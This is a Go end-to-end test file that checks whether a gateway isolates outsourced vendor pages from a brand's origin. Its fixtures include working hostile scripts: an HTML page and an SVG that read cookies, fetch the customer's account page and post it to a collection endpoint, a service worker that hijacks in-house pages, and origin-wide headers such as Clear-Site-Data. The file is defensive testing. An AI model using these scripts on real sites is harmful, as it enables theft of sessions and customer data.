package e2e

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/frontdoor-dev/frontdoor/internal/redistest"
)

// exfilPage is a hostile vendor page: its script reads the brand's
// cookies, fetches the in-house account page with the customer's
// credentials, shows what it got and posts it to its own backend.
const exfilPage = `<!doctype html><html><head><title>NightDesk</title></head><body>
<h1>How can we help?</h1>
<form id="search" action="search" method="get"><input name="q" value="refund"></form>
<pre id="out"></pre>
<script>
(async () => {
	const out = {};
	try { out.cookie = document.cookie; } catch (e) { out.cookie = 'ERR:' + e.name; }
	try {
		const r = await fetch('/own/account', {credentials: 'include'});
		out.account = await r.text();
	} catch (e) { out.account = 'ERR:' + e.name; }
	const text = JSON.stringify(out);
	try { await fetch('collect', {method: 'POST', body: text}); } catch (e) {}
	document.getElementById('out').textContent = text;
})();
</script></body></html>`

// exfilSVG does the same from an SVG document, which runs scripts when
// opened directly: a vendor would use it if only HTML were isolated.
const exfilSVG = `<svg xmlns="http://www.w3.org/2000/svg"><text id="out" y="20">waiting</text><script>
(async () => {
	let c;
	try { c = document.cookie; } catch (e) { c = 'ERR:' + e.name; }
	let a;
	try { a = await (await fetch('/own/account', {credentials: 'include'})).text(); } catch (e) { a = 'ERR:' + e.name; }
	const text = JSON.stringify({cookie: c, account: a});
	try { await fetch('collect', {method: 'POST', body: text}); } catch (e) {}
	document.getElementById('out').textContent = text;
})();
</script></svg>`

// exfilVendor serves the hostile pages under any prefix; what its
// scripts post back is in its backend's recorded bodies.
type exfilVendor struct {
	backend *backend
}

func (v *exfilVendor) serve(w http.ResponseWriter, r *http.Request) {
	_, rest, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	switch rest {
	case "page":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, exfilPage) //nolint:errcheck
	case "loose":
		// The vendor's own policy tries to keep the page same-origin.
		w.Header().Set("Content-Security-Policy", "sandbox allow-scripts allow-same-origin")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, exfilPage) //nolint:errcheck
	case "evil.svg":
		w.Header().Set("Content-Type", "image/svg+xml")
		io.WriteString(w, exfilSVG) //nolint:errcheck
	case "collect":
		// startBackend recorded the body
	case "search":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<html><body><p id=results>results for %s</p></body></html>", r.URL.Query().Get("q"))
	default:
		http.NotFound(w, r)
	}
}

// lastCollected is the body of the latest report a vendor script posted.
func (v *exfilVendor) lastCollected() string {
	b := v.backend
	b.mu.Lock()
	defer b.mu.Unlock()
	for i := len(b.requests) - 1; i >= 0; i-- {
		if strings.HasSuffix(b.requests[i].URL.Path, "/collect") {
			return b.bodies[i]
		}
	}
	return ""
}

// brandShop is the in-house backend: a login that sets the brand's
// HttpOnly session and a script-readable CSRF cookie, and an account page
// that shows the customer's data to the session.
func brandShop(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/own/login":
		http.SetCookie(w, &http.Cookie{Name: "acme_session", Value: "REAL", Path: "/", HttpOnly: true})
		http.SetCookie(w, &http.Cookie{Name: "acme_csrf", Value: "CSRF-T0KEN", Path: "/"})
		io.WriteString(w, "logged in") //nolint:errcheck
	case "/own/account":
		if c, err := r.Cookie("acme_session"); err != nil || c.Value != "REAL" {
			io.WriteString(w, "please log in") //nolint:errcheck
			return
		}
		io.WriteString(w, "Dana Smith, card ending 4242") //nolint:errcheck
	}
}

// isolateSite has the same hostile vendor twice: /open/* without
// isolation, /iso/* with the default for outsourced backends.
func isolateSite(t *testing.T, redisURL, shop, vendor string) *gateway {
	return startGateway(t, frontdoorBlock(fmt.Sprintf(`
		session {
			redis %s
			cookie acme_session
			strip_cookies acme_csrf
		}
		journey own /own/* {
			backend shop {
				owner in-house
				to %s
			}
		}
		journey open /open* {
			backend nightdesk-open {
				owner outsourced
				vendor "NightDesk BPO"
				isolate off
				to %s
			}
		}
		journey iso /iso/* {
			backend nightdesk {
				owner outsourced
				vendor "NightDesk BPO"
				to %s
			}
		}`, redisURL, shop, vendor, vendor)))
}

// TestVendorScriptIsolation proves both directions in Chromium: a vendor
// page without isolation reads a script-readable brand cookie and the
// customer's in-house account page and sends both to the vendor (the risk
// README states); with isolation (the default for outsourced backends)
// the same page, an SVG document and a page whose own policy asks for
// same-origin all fail, while its script still runs and its form works.
func TestVendorScriptIsolation(t *testing.T) {
	t.Parallel()
	rs := redistest.Start(t)
	shop := startBackend(t, "shop", brandShop)
	vendor := &exfilVendor{}
	vendor.backend = startBackend(t, "desk", vendor.serve)
	desk := vendor.backend
	gw := isolateSite(t, rs.URL(), shop.URL, desk.URL)
	ctx := newBrowser(t)

	// result opens a vendor document and waits for its script's report.
	result := func(path string) string {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(gw.URL+path)); err != nil {
			t.Fatalf("loading %s: %v", path, err)
		}
		var out string
		waitFor(t, 10*time.Second, func() error {
			out = browse(t, ctx, chromedp.Evaluate[string](`document.getElementById('out').textContent`))
			if out == "" || out == "waiting" {
				return fmt.Errorf("%s: the page's script has not reported", path)
			}
			return nil
		})
		return out
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(gw.URL+"/own/login")); err != nil {
		t.Fatal(err)
	}

	t.Run("without isolate the vendor reads the brand", func(t *testing.T) {
		out := result("/open/page")
		if !strings.Contains(out, "acme_csrf=CSRF-T0KEN") || !strings.Contains(out, "card ending 4242") {
			t.Fatalf("the exfiltration this test documents did not work: %s", out)
		}
		if got := vendor.lastCollected(); !strings.Contains(got, "card ending 4242") {
			t.Errorf("the vendor did not receive the account page: %q", got)
		}
		if out := result("/open/evil.svg"); !strings.Contains(out, "card ending 4242") {
			t.Errorf("an SVG document of the vendor could not read the brand either: %s", out)
		}
	})

	for _, path := range []string{"/iso/page", "/iso/loose", "/iso/evil.svg"} {
		t.Run("isolated "+path, func(t *testing.T) {
			out := result(path)
			for _, leak := range []string{"CSRF-T0KEN", "4242", "please log in"} {
				if strings.Contains(out, leak) {
					t.Errorf("an isolated vendor document read %q: %s", leak, out)
				}
			}
			if !strings.Contains(out, `"cookie":"ERR:SecurityError"`) || !strings.Contains(out, `"account":"ERR:TypeError"`) {
				t.Errorf("unexpected report from the isolated document: %s", out)
			}
			waitFor(t, 5*time.Second, func() error {
				if got := vendor.lastCollected(); got != out {
					return fmt.Errorf("the vendor got %q, the page reported %q", got, out)
				}
				return nil
			})
		})
	}

	t.Run("isolated forms work", func(t *testing.T) {
		result("/iso/page")
		err := chromedp.Do(ctx, chromedp.Submit(chromedp.ID("search")), chromedp.WaitVisible(chromedp.ID("results")))
		if err != nil {
			t.Fatalf("submitting the vendor's form: %v", err)
		}
		text := browse(t, ctx, chromedp.Text(chromedp.ID("results")))
		if text != "results for refund" {
			t.Errorf("form result %q", text)
		}
	})

	// The header itself, as a vendor would see its response changed.
	resp, _ := do(t, "GET", gw.URL+"/iso/loose", nil, nil)
	policies := resp.Header.Values("Content-Security-Policy")
	if len(policies) != 2 || policies[0] != "sandbox allow-scripts allow-same-origin" ||
		policies[1] != "sandbox allow-scripts allow-forms allow-popups allow-popups-to-escape-sandbox allow-modals allow-downloads" {
		t.Errorf("Content-Security-Policy %q: want the vendor's own and the isolation policy", policies)
	}
	resp, _ = do(t, "GET", gw.URL+"/own/account", nil, nil)
	if p := resp.Header.Values("Content-Security-Policy"); len(p) != 0 {
		t.Errorf("the in-house page was isolated: %q", p)
	}
}

// originVendor is a vendor that reaches for the whole brand origin from
// its own paths: a service worker whose scope it widens to "/" (one at
// /open-sw.js would not even need the header: a journey's /open* claims
// it, and its directory is the root), and Clear-Site-Data, which wipes
// every cookie of the origin, the brand's session included.
func originVendor(w http.ResponseWriter, r *http.Request) {
	switch {
	case strings.HasSuffix(r.URL.Path, "sw.js"):
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Service-Worker-Allowed", "/")
		io.WriteString(w, `self.addEventListener('install', e => self.skipWaiting());
self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => {
	if (e.request.url.includes('/own/')) e.respondWith(new Response('PWNED by the vendor', {headers: {'Content-Type': 'text/plain'}}));
});`) //nolint:errcheck
	case strings.HasSuffix(r.URL.Path, "/logout"):
		w.Header().Set("Clear-Site-Data", `"cookies", "storage"`)
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><pre id="out">logged out</pre></body></html>`) //nolint:errcheck
	default:
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><pre id="out"></pre><script>
navigator.serviceWorker.register(location.pathname.endsWith('/root') ? '/open-sw.js' : 'sw.js', {scope: '/'})
	.then(reg => document.getElementById('out').textContent = 'registered ' + reg.scope,
		e => document.getElementById('out').textContent = 'ERR:' + e.name);
</script></body></html>`) //nolint:errcheck
	}
}

// TestVendorCannotTakeOverTheOrigin: even a vendor trusted with isolate
// off cannot install a service worker over the brand's pages, nor wipe
// the brand's cookies with Clear-Site-Data, in Chromium.
func TestVendorCannotTakeOverTheOrigin(t *testing.T) {
	rs := redistest.Start(t)
	shop := startBackend(t, "shop", brandShop)
	desk := startBackend(t, "desk", originVendor)
	gw := isolateSite(t, rs.URL(), shop.URL, desk.URL)
	ctx := newBrowser(t)
	text := func(path, selector string) string {
		t.Helper()
		if err := chromedp.Do(ctx, chromedp.Navigate(gw.URL+path)); err != nil {
			t.Fatalf("loading %s: %v", path, err)
		}
		var out string
		waitFor(t, 10*time.Second, func() error {
			out = browse(t, ctx, chromedp.Evaluate[string](selector))
			if out == "" {
				return fmt.Errorf("%s: nothing yet", path)
			}
			return nil
		})
		return out
	}
	body := `document.body.innerText`
	text("/own/login", body)

	for _, page := range []string{"/open/page", "/open/root"} {
		out := text(page, `document.getElementById('out').textContent`)
		if !strings.HasPrefix(out, "ERR:") {
			t.Errorf("%s: the vendor registered a service worker: %s", page, out)
		}
		time.Sleep(500 * time.Millisecond) // time under test: a registered worker would claim the page in this window
		if got := text("/own/account", body); got != "Dana Smith, card ending 4242" {
			t.Fatalf("after %s the in-house page shows %q", page, got)
		}
	}

	text("/open/logout", `document.getElementById('out').textContent`)
	if got := text("/own/account", body); got != "Dana Smith, card ending 4242" {
		t.Errorf("after the vendor's Clear-Site-Data the in-house page shows %q", got)
	}
}

// TestVendorOriginHeadersRemoved: headers that act on the whole origin
// reach the customer only as the brand set them.
func TestVendorOriginHeadersRemoved(t *testing.T) {
	t.Parallel()
	vendor := startBackend(t, "vendor", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Strict-Transport-Security", "max-age=0")
		w.Header().Set("Alt-Svc", `h3="vendor.example:443"; ma=86400`)
		w.Header().Set("NEL", `{"report_to":"v","max_age":31536000,"include_subdomains":true,"success_fraction":1.0}`)
		w.Header().Set("Report-To", `{"group":"v","max_age":31536000,"endpoints":[{"url":"https://vendor.example/nel"}]}`)
		w.Header().Set("Clear-Site-Data", `"*"`)
		w.Header().Set("Service-Worker-Allowed", "/")
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, "self.onfetch = () => {}") //nolint:errcheck
	})
	inhouse := startBackend(t, "inhouse", nil)
	gw := startGateway(t, "\theader Strict-Transport-Security \"max-age=63072000\"\n"+frontdoorBlock(fmt.Sprintf(`
		journey vendor /v/* {
			backend shipco {
				owner outsourced
				vendor ShipCo
				isolate off
				to %s
			}
		}
		journey own /own/* {
			backend shop {
				owner in-house
				to %s
			}
		}`, vendor.URL, inhouse.URL)))
	resp, _ := do(t, "GET", gw.URL+"/v/app.js", nil, nil)
	if hsts := resp.Header.Values("Strict-Transport-Security"); len(hsts) != 1 || hsts[0] != "max-age=63072000" {
		t.Errorf("Strict-Transport-Security %q, want only the brand's", hsts)
	}
	for _, name := range []string{"Alt-Svc", "NEL", "Report-To", "Clear-Site-Data", "Service-Worker-Allowed"} {
		if v := resp.Header.Values(name); len(v) > 0 {
			t.Errorf("the vendor's %s reached the customer: %q", name, v)
		}
	}
	// A browser fetching a service worker script says so.
	resp, body := do(t, "GET", gw.URL+"/v/sw.js", nil, map[string]string{"Service-Worker": "script"})
	if err := brandErrorPage(resp, []byte(body), "onfetch"); err != nil || resp.StatusCode != http.StatusForbidden {
		t.Errorf("a vendor's service worker script: %d %v", resp.StatusCode, err)
	}
}
